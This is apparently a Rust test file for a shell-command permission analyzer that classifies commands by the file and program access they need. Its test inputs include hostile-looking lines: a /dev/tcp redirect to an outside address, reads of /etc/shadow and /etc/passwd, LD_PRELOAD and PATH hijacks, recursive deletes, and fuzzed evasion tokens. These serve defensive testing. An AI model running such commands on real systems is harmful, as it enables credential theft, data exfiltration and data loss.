//! Commands with what they need, as a table.

use super::programs::program;
use super::{Machine, analyze};

const MACHINE: Machine<'_> = Machine { host: "web", home: "/srv/d" };

/// The needs in short: `read cat, read /etc/passwd`, and what is sent.
fn shown(line: &str) -> (String, String) {
    let found = analyze(line, &MACHINE);
    let need = |need: &portreeve_model::Need| {
        let name = need.object.path.last().cloned().unwrap_or_default();
        let name = if need.object.path.len() == 1 { format!("@{name}") } else { name };
        format!("{} {name}", need.action)
    };
    let needs: Vec<String> = found.needs.iter().map(need).collect();
    let opaque = if found.opaque.is_empty() { "" } else { " opaque" };
    (format!("{}{opaque}", needs.join(", ")), found.wire)
}

#[track_caller]
fn check(line: &str, needs: &str, wire: &str) {
    assert_eq!(shown(line), (needs.to_owned(), wire.to_owned()), "{line}");
}

/// Code that nobody looks into: sent as it came.
#[track_caller]
fn check_unread(line: &str) {
    assert_eq!(shown(line), ("execute @web opaque".to_owned(), line.to_owned()), "{line}");
}

#[test]
fn programs_and_files_are_named() {
    check("cat /etc/passwd", "read cat, read /etc/passwd", "cat /etc/passwd");
    check("/bin/cat  '/a b'", "read cat, read /a b", "/bin/cat '/a b'");
    check("cat < /a > /b", "read /a, write /b, read cat", "cat < /a > /b");
    check("cat a", "read cat, read /srv/d/a", "cd /srv/d && { cat a; }");
    check("cat ~/a", "read cat, read /srv/d/a", "cat /srv/d/a");
    check("c\\at '/et'c/\"passwd\"", "read cat, read /etc/passwd", "cat /etc/passwd");
    check("grep -c x /a; ls /b", "read grep, read /a, read ls, read /b", "grep -c x /a; ls /b");
    check("grep -e x -f /p /a", "read grep, read /p, read /a", "grep -e x -f /p /a");
    check("echo hi >/dev/null 2>&1", "read echo", "echo hi > /dev/null 2>&1");
    check("rm -rf /a", "read rm, define /a", "rm -rf /a");
    check("cp /a /b /c", "read cp, read /a, read /b, write /c", "cp /a /b /c");
    check("mv /a /b", "read mv, read /a, define /a, write /b", "mv /a /b");
    check("chmod 600 /a", "read chmod, administer /a", "chmod 600 /a");
    check("ls", "read ls, read /srv/d", "cd /srv/d && { ls; }");
    check("grep -r x", "read grep, read /srv/d", "cd /srv/d && { grep -r x; }");
    check("echo /v/*", "read /v, read echo", "echo /v/*");
    let each = "for f in /v/*.a; do echo \"${f}\"; done";
    check(each, "read /v, read echo", each);
}

/// Decided as the program of that name, a word must not become the shell's own on its way.
#[test]
fn words_of_the_shell_stay_the_words_that_they_were() {
    check("\\if /a", "execute if opaque", "'if' /a");
    check_unread("'X=1' /a");
    check("echo \\for", "read echo", "echo 'for'");
}

#[test]
fn what_joins_commands_is_read() {
    check(
        "cat /a | grep x | wc -l",
        "read cat, read /a, read grep, read wc",
        "cat /a | grep x | wc -l",
    );
    check(
        "cat /a && rm /b || ls /c",
        "read cat, read /a, read rm, define /b, read ls, read /c",
        "cat /a && rm /b || ls /c",
    );
    check(
        "(cat /a; cat /b) > /c",
        "write /c, read cat, read /a, read /b",
        "( cat /a; cat /b; ) > /c",
    );
    check(
        "if test -f /a; then cat /a; fi",
        "read test, read cat, read /a",
        "if test -f /a; then cat /a; fi",
    );
    check(
        "for f in /a /b; do cat \"$f\"; done",
        "read cat, read /a, read /b",
        "for f in /a /b; do cat \"${f}\"; done",
    );
    check("echo $(cat /a)", "read cat, read /a, read echo", "echo $(cat /a)");
    check("echo `cat /a`", "read cat, read /a, read echo", "echo $(cat /a)");
    check("cat <<'E'\n$x\nE\n", "read cat", "cat <<'END'\n$x\nEND\n");
    check("cd /var && cat log", "read cat, read /var/log", "cd /srv/d && { cd /var && cat log; }");
    check(
        "cd /var; cat log",
        "read cat, read /srv/d/log, read /var/log",
        "cd /srv/d && { cd /var; cat log; }",
    );
    check("X=/etc; cat $X/passwd", "read cat, read /etc/passwd", "X=/etc; cat ${X}/passwd");
    check("cat /a &", "read cat, read /a", "cat /a &");
    check("! grep -q x /a # done", "read grep, read /a", "! grep -q x /a");
}

#[test]
fn programs_that_run_others_are_looked_into() {
    check("sudo cat /a", "administer @web, read cat, read /a", "sudo cat /a");
    check("sudo -u root -n cat /a", "administer @web, read cat, read /a", "sudo -u root -n cat /a");
    check(
        "env LC_ALL=C timeout 5 cat /a",
        "read env, read timeout, read cat, read /a",
        "env LC_ALL=C timeout 5 cat /a",
    );
    check("sh -c 'cat /a'", "read cat, read /a", "sh -c 'cat /a'");
    check("bash -c \"cat '/a b'\"", "read cat, read /a b", "bash -c 'cat '\\''/a b'\\'''");
    check("eval 'cat /a'", "read cat, read /a", "eval 'cat /a'");
    check(
        "find /a -name '*.log' -exec grep -l x {} +",
        "read find, read /a, read grep",
        "find /a -name '*.log' -exec grep -l x '{}' +",
    );
    check("find /a -delete", "read find, read /a, define /a", "find /a -delete");
    check(
        "nohup nice -n 5 cat /a",
        "read nohup, read nice, read cat, read /a",
        "nohup nice -n 5 cat /a",
    );
}

#[test]
fn what_hides_values_or_is_not_known_is_said_to() {
    check("base64 /a", "execute base64, read /a opaque", "base64 /a");
    check("cat /a | rev", "read cat, read /a, execute rev opaque", "cat /a | rev");
    check("head -c 3 /a", "execute head opaque", "head -c 3 /a");
    check("grep -o . /a", "execute grep opaque", "grep -o . /a");
    check("cat -v /a", "execute cat opaque", "cat -v /a");
    check("/opt/x/tool a", "execute /opt/x/tool opaque", "/opt/x/tool a");
    check("frobnicate", "execute frobnicate opaque", "frobnicate");
    let split = "printf '%s\\n' $(cat /a)";
    check(split, "read cat, read /a, execute printf opaque", split);
    check("printf %.3s x", "execute printf opaque", "printf %.3s x");
    check("python3 -c 'x'", "execute @web opaque", "python3 -c x");
    check("awk '{print}' /a", "execute @web opaque", "awk '{print}' /a");
    check("sed -n '1,5p' /a", "read sed, read /a", "sed -n 1,5p /a");
    check("sed s/a/b/ /a", "execute @web opaque", "sed s/a/b/ /a");
    check("bash", "execute @web opaque", "bash");
    check("bash /x.sh", "execute @web opaque", "bash /x.sh");
    check("git-upload-pack '/r'", "read git-upload-pack, read /r opaque", "git-upload-pack /r");
}

#[test]
fn what_is_not_read_is_code() {
    for line in [
        "cat $X",
        "cat $(ls)",
        "$X /a",
        "cat ../a",
        "cat /a/../b",
        "cat ${x:0:3}",
        "cat $((1))",
        "cat {/a,/b}",
        "f() { cat /a; }; f",
        "case x in x) cat /a;; esac",
        "cat <(ls)",
        "cat $'\\x2f'",
        "IFS=@; echo x",
        "PATH=/tmp:$PATH cat /a",
        "xargs cat",
        "LD_PRELOAD=/x cat /a",
        "cat /proc/self/root/etc/shadow",
        "cat > /dev/tcp/1.2.3.4/80",
        "cat '",
        "",
        "  ",
        "cat /a |",
        "cat /a &&",
        "; ls",
        "cat ~root/a",
        "cat <<E\n$(x)\nE\n",
        "let x=1",
        "cat /a\u{7}",
        "set -- a",
        "while cd x; do ls; done",
        "env X=1 cat /a",
        "for PATH in /x; do cat /a; done",
        "cat \"$@\"",
        "for w in $(cat /a); do echo $w; done",
        "for w in $X; do echo $w; done",
        "read a b < /a",
        "xargs echo",
        "find /a -printf %.3f",
        "stat -c %.3n /a",
        "ps -eo args:3",
    ] {
        if line != "let x=1" {
            check_unread(line);
        }
    }
}

#[test]
fn files_that_policies_name_are_asked_for_within_their_folders() {
    let named = ["/etc/shadow", "/srv/x"];
    for (line, expect) in
        [("grep -r x /etc", 1), ("cat /etc/*", 1), ("cat /etc/passwd", 0), ("rm -r /", 2)]
    {
        let mut found = analyze(line, &MACHINE);
        let before = found.needs.len();
        found.ask_for_named("web", named.iter());
        assert_eq!(found.needs.len() - before, expect, "{line}");
    }
}

#[test]
fn every_row_of_the_table_is_read() {
    for name in ["cat", "grep", "git-receive-pack", "base64", "["] {
        assert!(program(name).is_some(), "{name}");
    }
}

/// Words of which lines are made that somebody could write to get round the reader.
const TOKENS: [&str; 46] = [
    "cat", "/a", "b", "'", "\"", "\\", "$", "`", "(", ")", "{", "}", "|", "&", ";", "<", ">", "\n",
    " ", " ", " ", "*", "?", "[", "]", "~", "#", "!", "=", "X", "${X}", "$(", "if", "then", "fi",
    "do", "done", "for", "in", "while", "<<E\n", "E\n", "-n", "sh -c", "find", "eval",
];

proptest::proptest! {
    /// What is sent is read as it was decided: reading it again gives the same needs and the same
    /// line, but for the folder that it begins in.
    #[test]
    fn what_is_sent_means_what_was_decided(
        picks in proptest::collection::vec(0..TOKENS.len(), 0..24),
    ) {
        let line: String = picks.into_iter().map(|pick| TOKENS[pick]).collect();
        let first = analyze(&line, &MACHINE);
        if first.unread.is_some() {
            proptest::prop_assert_eq!(first.wire, line);
            return Ok(());
        }
        let again = analyze(&first.wire, &MACHINE);
        proptest::prop_assert_eq!(&again.unread, &None, "{:?} became {:?}", line, first.wire);
        let sorted = |found: &super::Analysis| {
            let mut needs = found.needs.clone();
            needs.sort();
            needs
        };
        proptest::prop_assert_eq!(sorted(&first), sorted(&again), "{:?} became {:?}", line, first.wire);
        let within = format!("cd /srv/d && {{ {}; }}", first.wire);
        let is_same = again.wire == first.wire || again.wire == within;
        proptest::prop_assert!(is_same, "{:?} became {:?}, then {:?}", line, first.wire, again.wire);
    }
}
